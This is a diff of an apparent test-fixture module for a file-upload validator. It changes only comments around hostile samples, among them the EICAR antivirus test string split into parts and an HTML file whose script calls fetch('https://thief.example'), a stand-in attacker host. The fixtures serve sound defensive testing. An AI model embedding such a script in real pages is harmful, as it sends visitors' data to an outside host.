@@ -6,12 +6,12 @@ import { makeJpeg, makePng, pngChunk } from './make/makePictures.ts';
 import { makeZip } from './make/makeZip.ts';
 import type { TestFile } from './TestFile.ts';
 
-/** The text by which virus scanners are tested. It is put together here, or a scanner would refuse this file. */
+/** The test text for virus scanners, joined from parts so that a scanner does not refuse this file. */
 export const testVirus = Buffer.from(
   ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
 );
 
-/** Files that attack those who store or open them: none of them may be accepted. */
+/** Returns files that attack programs which store or open them: none may be accepted. */
 export async function hostileFiles(): Promise<readonly TestFile[]> {
   const pdf = await makePdf(['A quiet book.']);
   return [
@@ -32,7 +32,7 @@ const program = Buffer.concat([
 ]);
 const markup = Buffer.from('<!DOCTYPE html><html><script>fetch("https://thief.example")</script></html>');
 
-/** Content of one type under the extension of each other. */
+/** Returns content of each type with the file extension of each other type. */
 function wrongContents(pdf: Buffer): readonly TestFile[] {
   const own: Readonly<Record<string, Buffer>> = {
     pdf,
@@ -59,7 +59,7 @@ function wrongContents(pdf: Buffer): readonly TestFile[] {
     left === right || (left.startsWith('jp') && right.startsWith('jp'));
   return Object.keys(own).flatMap((extension) => [
     ...Object.entries(own)
-      // A rich text is made of letters.
+      // A rich text is also valid plain text.
       .filter(([type]) => !isSame(type, extension) && !(extension === 'txt' && type === 'rtf'))
       .map(([type, content]) => ({ what: `${type} as ${extension}`, name: `file.${extension}`, content })),
     ...Object.entries(others).map(([what, content]) => ({
